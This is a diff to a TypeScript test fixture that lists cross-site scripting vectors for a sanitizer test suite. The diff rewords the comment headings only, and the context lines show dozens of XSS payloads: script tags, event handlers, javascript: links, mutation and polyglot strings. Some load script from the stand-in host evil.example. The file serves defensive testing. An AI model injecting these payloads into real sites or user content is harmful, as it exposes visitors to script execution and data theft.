@@ -1,8 +1,8 @@
-// What has been tried against pages that show text of others, gathered from what is publicly known. Each goes through every
-// field that is shown; see xss.spec.ts. Most fit a title; where one would run, it calls alert or asks evil.example.
+// Publicly known attacks on pages that show user content. xss.spec.ts puts each one into every visible field. Most fit
+// into a title. One that runs calls alert or requests evil.example.
 
 export const vectors: string[] = [
-  // Script elements, whole, broken and nested.
+  // Script elements: complete, broken and nested.
   '<script>alert(1)</script>',
   '<SCRIPT>alert(1)</SCRIPT>',
   '<script >alert(1)</script >',
@@ -28,7 +28,7 @@ export const vectors: string[] = [
   "<script>window['al'+'ert'](1)</script>",
   "<script>eval(atob('YWxlcnQoMSk='))</script>",
   "<script>import('//evil.example/x.js')</script>",
-  // Handlers on every kind of element.
+  // Event handlers on every kind of element.
   '<img src=x onerror=alert(1)>x',
   '<img src=/favicon.svg onload=alert(1)>x',
   '<body onload=alert(1)>x',
@@ -89,7 +89,7 @@ export const vectors: string[] = [
   '<svg onload=alert(1)>x',
   '<math onclick=alert(1)>x',
   '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x',
-  // Handlers spelled oddly.
+  // Unusual spellings of event handlers.
   '<img src=x onerror = alert(1)>',
   "<img src=x onerror='alert(1)'>",
   '<img src=x onerror="alert(1)">',
@@ -110,7 +110,7 @@ export const vectors: string[] = [
   '<img src=/blogs/0123456789abcdef-8x8.jpg onload=alert(1)>',
   "<img src=/blogs/0123456789abcdef-8x8.jpg alt='\"><svg onload=alert(1)>'>",
   '<a href=https://a.example/" onmouseover=alert(1) x=">x</a>',
-  // Drawings, formulas and other foreign content.
+  // SVG, MathML and other foreign content.
   '<svg><script>alert(1)</script></svg>',
   '<svg><script>alert&#40;1)</script></svg>',
   '<svg><script href=//evil.example/x.js /></svg>',
@@ -146,7 +146,7 @@ export const vectors: string[] = [
   '<math><mtext></p><img src=x onerror=alert(1)>',
   '<?xml version=1.0?><x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>',
   '<xml><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>',
-  // Links that lead where no link may.
+  // Links with forbidden targets.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
@@ -197,7 +197,7 @@ export const vectors: string[] = [
   '<a href="filesystem:https://evil.example/x">x</a>',
   '<a href="\u2028javascript:alert(1)">x</a>',
   '<a href="\ufeffjavascript:alert(1)">x</a>',
-  // Other attributes that hold an address.
+  // Other attributes that take a URL.
   '<a href=https://a.example ping=//evil.example/x>x</a>',
   '<form action=javascript:alert(1)><input type=submit></form>',
   '<form><button formaction=javascript:alert(1)>x</button></form>',
@@ -254,7 +254,7 @@ export const vectors: string[] = [
   '<style></style><img src=x onerror=alert(1)></style>',
   '<style><!--</style><script>alert(1)//--></script>',
   '<style/onload=alert(1)></style>',
-  // Ways out of the element or attribute around them.
+  // Breaking out of the surrounding element or attribute.
   '"><script>alert(1)</script>',
   "'><script>alert(1)</script>",
   '"><img src=x onerror=alert(1)>',
@@ -295,7 +295,7 @@ export const vectors: string[] = [
   '</content></entry><entry><title>x</title>',
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
-  // Texts that change when they are read twice.
+  // Mutation XSS: markup that changes when it is parsed twice.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<template><script>alert(1)</script></template>',
   '<template><img src=x onerror=alert(1)></template>',
@@ -326,7 +326,7 @@ export const vectors: string[] = [
   '<b><p><table><b><img src=x onerror=alert(1)>',
   '<details><summary><svg><title></summary><img src=x onerror=alert(1)>',
   '<nofill><image src=x onerror=alert(1)>',
-  // Characters that are not what they seem.
+  // Misleading characters.
   '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
   '<img src=x onerror\u0000=alert(1)>',
   '<a href="java\u0000script:alert(1)">x</a>',
@@ -352,7 +352,7 @@ export const vectors: string[] = [
   '\ufffe\uffff<script>alert(1)</script>',
   "\ud83c\udf3f<script>alert('\ud83c\udf3f')</script>",
   '<script>alert(1)\u2028</script>',
-  // For several places at once, and for other engines.
+  // Polyglots, and attacks on other template engines.
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
   '\'"--></style></script><svg onload=alert(1)>',
   'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html onmouseover=alert(1)//',
